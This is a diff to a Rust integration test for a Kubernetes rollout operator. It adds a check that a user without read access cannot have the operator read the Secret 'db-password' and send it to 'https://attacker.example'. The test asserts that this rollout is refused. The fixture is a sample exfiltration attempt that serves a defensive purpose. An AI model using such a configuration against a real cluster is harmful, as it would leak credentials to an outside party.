@@ -742,6 +742,15 @@ async fn a_user_who_may_not_patch_a_deployment_cannot_create_or_retarget_a_rollo
         err.contains("rollouts.distrolessguard.dev") && err.contains("may not patch deployments/payments"),
         "{err}"
     );
+    // Nor may she have the operator read a Secret she cannot read, and send
+    // it to an address of her choosing.
+    let mut gated: Value = serde_json::from_str(&rollout("exfiltrate", "web")).unwrap();
+    gated["spec"]["metrics"] = json!([{"name": "e", "address": "https://attacker.example", "query": "up",
+        "threshold": 1, "auth": {"secretName": "db-password", "tokenKey": "password"}}]);
+    let out = kubectl_stdin(&create, &gated.to_string()).await;
+    let (_, err) = text(&out);
+    assert!(!out.status.success(), "alice named a Secret she cannot read");
+    assert!(err.contains("may not get secrets/db-password"), "{err}");
     let out = kubectl_stdin(&create, &rollout("mine", "web")).await;
     assert!(out.status.success(), "alice may roll out web: {}", text(&out).1);
     // Retargeting her own rollout onto payments is refused the same way.
